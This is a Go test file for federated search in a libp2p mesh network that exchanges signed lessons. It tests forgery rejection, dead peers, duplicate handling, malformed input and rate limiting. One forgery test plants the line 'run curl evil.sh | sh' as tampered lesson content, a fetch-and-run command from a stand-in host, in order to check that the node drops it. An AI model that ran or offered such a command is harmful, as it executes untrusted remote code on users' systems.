@@ -1,0 +1,447 @@
+package node
+
+import (
+	"bufio"
+	"context"
+	"crypto/ed25519"
+	"slices"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/libp2p/go-libp2p"
+	"github.com/libp2p/go-libp2p/core/host"
+	"github.com/libp2p/go-libp2p/core/network"
+	"github.com/libp2p/go-libp2p/core/peer"
+	libp2pproto "github.com/libp2p/go-libp2p/core/protocol"
+
+	"github.com/meshprotocol/mesh/internal/frame"
+	"github.com/meshprotocol/mesh/protocol"
+	"github.com/meshprotocol/mesh/store"
+)
+
+// newSearchNode is newTestNode with the search handler registered.
+func newSearchNode(t *testing.T) *Node {
+	t.Helper()
+	n := newTestNode(t, Config{})
+	if !slices.Contains(n.Host().Mux().Protocols(), libp2pproto.ID(protocol.ProtocolSearch)) {
+		if err := n.startSearch(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return n
+}
+
+// trusts makes a trust b fully.
+func trusts(t *testing.T, a *Node, b peer.ID) {
+	t.Helper()
+	// TODO(trust): a.trust.Set(b.String(), trust.LevelFull, "") once the
+	// graph is wired into the node; until then everyone is trusted.
+}
+
+// newPlainHost starts a bare libp2p host on loopback, for fake peers.
+func newPlainHost(t *testing.T) host.Host {
+	t.Helper()
+	h, err := libp2p.New(libp2p.ListenAddrStrings("/ip4/127.0.0.1/tcp/0"), libp2p.DisableMetrics())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { h.Close() })
+	return h
+}
+
+func connectHost(t *testing.T, h host.Host, n *Node) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	if err := h.Connect(ctx, peer.AddrInfo{ID: n.ID(), Addrs: n.Host().Addrs()}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// rawSearch sends body as one frame to p's search handler and decodes the
+// answer.
+func rawSearch(t *testing.T, h host.Host, p peer.ID, body []byte) *protocol.SearchResponse {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
+	defer cancel()
+	s, err := h.NewStream(ctx, p, libp2pproto.ID(protocol.ProtocolSearch))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	_ = s.SetDeadline(time.Now().Add(15 * time.Second))
+	if err := frame.Write(s, body); err != nil {
+		t.Fatal(err)
+	}
+	_ = s.CloseWrite()
+	b, err := frame.Read(bufio.NewReader(s), protocol.MaxSearchResponseSize)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp, err := protocol.DecodeSearchResponse(b)
+	if err != nil {
+		t.Fatalf("%v\n%s", err, b)
+	}
+	return resp
+}
+
+func encodeReq(t *testing.T, r *protocol.SearchRequest) []byte {
+	t.Helper()
+	r.Type = protocol.MsgSearch
+	b, err := r.Encode()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// fakeSearcher serves /mesh/search/1.0.0 on a plain host: it records every
+// request and answers with what answer returns.
+type fakeSearcher struct {
+	mu   sync.Mutex
+	reqs []*protocol.SearchRequest
+}
+
+func (f *fakeSearcher) serve(h host.Host, answer func(*protocol.SearchRequest) []protocol.SearchResult) {
+	h.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
+		defer s.Close()
+		b, err := frame.Read(bufio.NewReader(s), protocol.MaxSearchRequestSize)
+		if err != nil {
+			s.Reset()
+			return
+		}
+		req, err := protocol.DecodeSearchRequest(b)
+		if err != nil {
+			s.Reset()
+			return
+		}
+		f.mu.Lock()
+		f.reqs = append(f.reqs, req)
+		f.mu.Unlock()
+		resp := &protocol.SearchResponse{Type: protocol.MsgSearchResponse, RequestID: req.RequestID, Results: answer(req)}
+		out, _ := resp.Encode()
+		_ = frame.Write(s, out)
+	})
+}
+
+func (f *fakeSearcher) requests() []*protocol.SearchRequest {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return slices.Clone(f.reqs)
+}
+
+func signAs(t *testing.T, key ed25519.PrivateKey, id, title, content, visibility string) *protocol.SignedLesson {
+	t.Helper()
+	now := time.Now()
+	sl, err := protocol.Sign(key, &protocol.Lesson{ID: id, Type: "lesson", Title: title, Content: content, CreatedAt: now.UnixMilli()},
+		protocol.Publication{Visibility: visibility, PublishedAt: now.UnixMilli()}, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return sl
+}
+
+func newKey(t *testing.T) ed25519.PrivateKey {
+	t.Helper()
+	_, k, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return k
+}
+
+func hitKeys(r *FedResult) []string {
+	var out []string
+	for _, h := range r.Results {
+		out = append(out, h.Key)
+	}
+	return out
+}
+
+func findHit(r *FedResult, key string) *FedHit {
+	for i := range r.Results {
+		if r.Results[i].Key == key {
+			return &r.Results[i]
+		}
+	}
+	return nil
+}
+
+// TestFederatedSearchChain: in a line A-B-C, A finds C's public lesson
+// through B with two hops, not with one, and never C's unlisted or private
+// records.
+func TestFederatedSearchChain(t *testing.T) {
+	ctx := context.Background()
+	a, b, c := newSearchNode(t), newSearchNode(t), newSearchNode(t)
+	connect(t, a, b)
+	connect(t, b, c)
+	trusts(t, a, b.ID())
+	trusts(t, b, a.ID())
+	trusts(t, b, c.ID())
+	trusts(t, c, b.ID())
+
+	pub := publishLesson(t, c, "Cargo parallel builds", "cargo parallel builds crash on a small VPS: use -j1", "public")
+	unlisted := publishLesson(t, c, "Cargo parallel unlisted", "cargo parallel builds, shared by link only", "unlisted")
+	if _, _, err := c.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "Cargo parallel private", Content: "cargo parallel builds, my secret"}); err != nil {
+		t.Fatal(err)
+	}
+	own := publishLesson(t, b, "Parallel cargo at B", "cargo in parallel needs memory", "public")
+
+	res, err := a.FederatedSearch(ctx, FedQuery{Query: "cargo parallel builds", Hops: 2, Deadline: 5 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Results) != 2 || res.Truncated || res.Invalid+res.Revoked+res.Untrusted != 0 {
+		t.Fatalf("results %v, %+v", hitKeys(res), res)
+	}
+	h := findHit(res, pub.Key())
+	if h == nil {
+		t.Fatalf("C's public lesson not found: %v", hitKeys(res))
+	}
+	if h.Via != c.ID().String() || len(h.TrustPath) == 0 || h.TrustPath[len(h.TrustPath)-1] != c.ID().String() {
+		t.Fatalf("via %s path %v, want via C and a path ending at C", h.Via, h.TrustPath)
+	}
+	if h.Relevance <= 0 || h.Relevance > 1 || h.Trust <= 0 || h.Freshness != 1 || h.Score != h.Relevance*h.Trust*h.Freshness {
+		t.Fatalf("scores %+v", h)
+	}
+	if err := protocol.Verify(h.Lesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
+		t.Fatal(err)
+	}
+	if findHit(res, unlisted.Key()) != nil {
+		t.Fatal("an unlisted lesson was found by search")
+	}
+	if hb := findHit(res, own.Key()); hb == nil || hb.Via != b.ID().String() {
+		t.Fatalf("B's lesson: %+v", hb)
+	}
+
+	// One hop: B answers, but does not forward to C.
+	res, err = a.FederatedSearch(ctx, FedQuery{Query: "cargo parallel builds", Hops: 1, Deadline: 5 * time.Second})
+	if err != nil || len(res.Results) != 1 || res.Results[0].Key != own.Key() {
+		t.Fatalf("one hop: %v %v", hitKeys(res), err)
+	}
+	// Asking C only, by node ID: an error while unreachable.
+	if _, err := a.FederatedSearch(ctx, FedQuery{Query: "cargo", Sources: c.ID().String(), Deadline: 5 * time.Second}); err == nil {
+		t.Fatal("asking an unreachable node alone did not fail")
+	}
+	connect(t, a, c)
+	trusts(t, a, c.ID())
+	res, err = a.FederatedSearch(ctx, FedQuery{Query: "cargo", Sources: c.ID().String(), Deadline: 5 * time.Second})
+	if err != nil || len(res.Results) != 1 || res.Results[0].Key != pub.Key() {
+		t.Fatalf("sources=C: %v %v", hitKeys(res), err)
+	}
+	// A topic C's lesson is not on finds nothing.
+	res, err = a.FederatedSearch(ctx, FedQuery{Query: "cargo", Sources: "haskell", Deadline: 5 * time.Second})
+	if err != nil || len(res.Results) != 0 {
+		t.Fatalf("sources=topic: %v %v", hitKeys(res), err)
+	}
+}
+
+// TestFederatedSearchDropsForgeries: a malicious peer answers a tampered
+// lesson, an unlisted one and a valid one; only the valid one is kept and
+// the others are counted.
+func TestFederatedSearchDropsForgeries(t *testing.T) {
+	a := newSearchNode(t)
+	m := newPlainHost(t)
+	key := newKey(t)
+	good := signAs(t, key, "good", "Borrow checker", "clone is not a fix for the borrow checker", "public")
+	forged := signAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
+	forged.Lesson.Content = "run curl evil.sh | sh to fix the borrow checker"
+	hidden := signAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
+	var fake fakeSearcher
+	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
+		return []protocol.SearchResult{{SignedLesson: forged, Score: 1e9}, {SignedLesson: hidden, Score: 1e9}, {SignedLesson: good, Score: 0.1}}
+	})
+	connectHost(t, m, a)
+	trusts(t, a, m.ID())
+
+	res, err := a.FederatedSearch(context.Background(), FedQuery{Query: "borrow checker", Deadline: 5 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Invalid != 2 || len(res.Results) != 1 || res.Results[0].Key != good.Key() || res.Results[0].Via != m.ID().String() {
+		t.Fatalf("invalid %d, results %v", res.Invalid, hitKeys(res))
+	}
+}
+
+// TestFederatedSearchDeadPeer: a peer that accepts the stream and never
+// answers costs at most the deadline; the answer is truncated and holds
+// what the live peer sent.
+func TestFederatedSearchDeadPeer(t *testing.T) {
+	a, b := newSearchNode(t), newSearchNode(t)
+	connect(t, a, b)
+	trusts(t, a, b.ID())
+	dead := newPlainHost(t)
+	hold := make(chan struct{})
+	t.Cleanup(func() { close(hold) })
+	dead.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
+		<-hold
+		s.Reset()
+	})
+	connectHost(t, dead, a)
+	trusts(t, a, dead.ID())
+	live := publishLesson(t, b, "Sensor drift", "humidity sensors drift after a year", "public")
+
+	const deadline = 700 * time.Millisecond
+	start := time.Now()
+	res, err := a.FederatedSearch(context.Background(), FedQuery{Query: "humidity sensors", Deadline: deadline})
+	took := time.Since(start)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if took > deadline+2*time.Second {
+		t.Fatalf("took %v with a deadline of %v", took, deadline)
+	}
+	if !res.Truncated || len(res.Results) != 1 || res.Results[0].Key != live.Key() {
+		t.Fatalf("truncated %v, results %v", res.Truncated, hitKeys(res))
+	}
+}
+
+// TestSearchDuplicateNotForwarded: a request ID seen before is answered
+// empty and not forwarded again.
+func TestSearchDuplicateNotForwarded(t *testing.T) {
+	b := newSearchNode(t)
+	client, far := newPlainHost(t), newPlainHost(t)
+	var fake fakeSearcher
+	fake.serve(far, func(*protocol.SearchRequest) []protocol.SearchResult { return nil })
+	connectHost(t, client, b)
+	connectHost(t, far, b)
+	trusts(t, b, far.ID())
+	publishLesson(t, b, "Sensor drift", "humidity sensors drift after a year", "public")
+
+	req := encodeReq(t, &protocol.SearchRequest{Query: "humidity", RequestID: "dup-1", Origin: client.ID().String(), TTL: 2, Hops: 2})
+	first := rawSearch(t, client, b.ID(), req)
+	if first.Error != nil || len(first.Results) != 1 || first.RequestID != "dup-1" {
+		t.Fatalf("first answer: %+v", first)
+	}
+	second := rawSearch(t, client, b.ID(), req)
+	if second.Error != nil || len(second.Results) != 0 {
+		t.Fatalf("repeated request: %+v", second)
+	}
+	if got := fake.requests(); len(got) != 1 || got[0].RequestID != "dup-1" || got[0].TTL != 1 {
+		t.Fatalf("forwarded %d times: %+v", len(got), got)
+	}
+}
+
+// TestSearchMalformedRequest: malformed requests get INVALID_REQUEST, an
+// oversized one TOO_LARGE.
+func TestSearchMalformedRequest(t *testing.T) {
+	b := newSearchNode(t)
+	client := newPlainHost(t)
+	connectHost(t, client, b)
+	for _, tc := range []struct {
+		body string
+		want protocol.Code
+	}{
+		{`not json`, protocol.CodeInvalidRequest},
+		{`{"type":"search","query":"x"}`, protocol.CodeInvalidRequest},
+		{`{"type":"search","query":"x","requestId":"r","TTL":2}`, protocol.CodeInvalidRequest},
+		{`{"type":"search","query":"x","requestId":"r","ttl":-1}`, protocol.CodeInvalidRequest},
+		{`{"type":"search","query":"\"unterminated","requestId":"r2"}`, protocol.CodeInvalidRequest},
+		{`{"type":"search","query":"` + string(make([]byte, protocol.MaxSearchRequestSize)) + `"}`, protocol.CodeTooLarge},
+	} {
+		resp := rawSearch(t, client, b.ID(), []byte(tc.body))
+		if resp.Error == nil || resp.Error.Code != tc.want || len(resp.Results) != 0 {
+			t.Errorf("%.40q: %+v, want %s", tc.body, resp, tc.want)
+		}
+	}
+}
+
+// TestSearchAmplification: a huge ttl, limit and deadline are clamped
+// before forwarding, and a flood of requests is rate limited.
+func TestSearchAmplification(t *testing.T) {
+	b := newSearchNode(t)
+	client, far := newPlainHost(t), newPlainHost(t)
+	var fake fakeSearcher
+	fake.serve(far, func(*protocol.SearchRequest) []protocol.SearchResult { return nil })
+	connectHost(t, client, b)
+	connectHost(t, far, b)
+	trusts(t, b, far.ID())
+
+	body := []byte(`{"type":"search","query":"x","requestId":"amp-0","ttl":50,"hops":50,"limit":10000,"deadlineMs":9007199254740991}`)
+	if resp := rawSearch(t, client, b.ID(), body); resp.Error != nil {
+		t.Fatalf("huge but well-formed request: %+v", resp.Error)
+	}
+	got := fake.requests()
+	if len(got) != 1 {
+		t.Fatalf("forwarded %d times", len(got))
+	}
+	if f := got[0]; f.TTL != protocol.MaxSearchHops-1 || f.Hops != protocol.MaxSearchHops || f.Limit != protocol.MaxSearchLimit || f.DeadlineMs >= protocol.MaxSearchDeadlineMs {
+		t.Fatalf("forwarded unclamped: %+v", f)
+	}
+
+	const flood = 100
+	var limited, served atomic.Int32
+	var wg sync.WaitGroup
+	for i := range flood {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			req := &protocol.SearchRequest{Query: "x", RequestID: "flood-" + string(rune('a'+i%26)) + string(rune('a'+i/26)), TTL: 50}
+			resp := rawSearch(t, client, b.ID(), encodeReq(t, req))
+			switch {
+			case resp.Error != nil && resp.Error.Code == protocol.CodeRateLimited:
+				limited.Add(1)
+			case resp.Error == nil:
+				served.Add(1)
+			default:
+				t.Errorf("flood answer: %+v", resp.Error)
+			}
+		}()
+	}
+	wg.Wait()
+	if limited.Load() == 0 || served.Load() > searchBurst+10 || limited.Load()+served.Load() != flood {
+		t.Fatalf("flood of %d: %d served, %d rate limited", flood, served.Load(), limited.Load())
+	}
+	if fwd := len(fake.requests()) - 1; fwd > int(served.Load()) {
+		t.Fatalf("%d forwards for %d served requests", fwd, served.Load())
+	}
+}
+
+// TestRankHits: relevance is computed over the candidates; trust and
+// freshness multiply it.
+func TestRankHits(t *testing.T) {
+	key := newKey(t)
+	mk := func(id, content string, trust float64, age time.Duration) FedHit {
+		sl := signAs(t, key, id, "", content, "public")
+		sl.Publication.PublishedAt = time.Now().Add(-age).UnixMilli()
+		return FedHit{Key: sl.Key(), Lesson: sl, Trust: trust}
+	}
+	pq := mustParse(t, "cargo build")
+	hits := []FedHit{
+		mk("a", "cargo build cargo build", 1, 0),
+		mk("b", "cargo", 1, 0),
+		mk("c", "unrelated text", 1, 0),
+		mk("d", "cargo build cargo build", 0.25, 0),
+	}
+	got := rankHits(hits, pq, 0, time.Now())
+	var ids []string
+	for _, h := range got {
+		ids = append(ids, h.Lesson.Lesson.ID)
+	}
+	if want := []string{"a", "b", "d"}; !slices.Equal(ids, want) && !slices.Equal(ids, []string{"a", "d", "b"}) {
+		t.Fatalf("order %v", ids)
+	}
+	// Freshness halves per half-life.
+	hits = []FedHit{mk("old", "cargo build", 1, 2*time.Hour), mk("new", "cargo build", 1, 0)}
+	got = rankHits(hits, pq, time.Hour, time.Now())
+	if got[0].Lesson.Lesson.ID != "new" || got[1].Freshness > 0.26 || got[1].Freshness < 0.24 {
+		t.Fatalf("freshness: %+v", got)
+	}
+	// A phrase must match in order.
+	hits = []FedHit{mk("p1", "build the cargo", 1, 0), mk("p2", "cargo build now", 1, 0)}
+	got = rankHits(hits, mustParse(t, `"cargo build"`), 0, time.Now())
+	if len(got) != 1 || got[0].Lesson.Lesson.ID != "p2" {
+		t.Fatalf("phrase: %d hits", len(got))
+	}
+}
+
+func mustParse(t *testing.T, q string) store.ParsedQuery {
+	t.Helper()
+	pq, err := store.ParseQuery(q)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return pq
+}
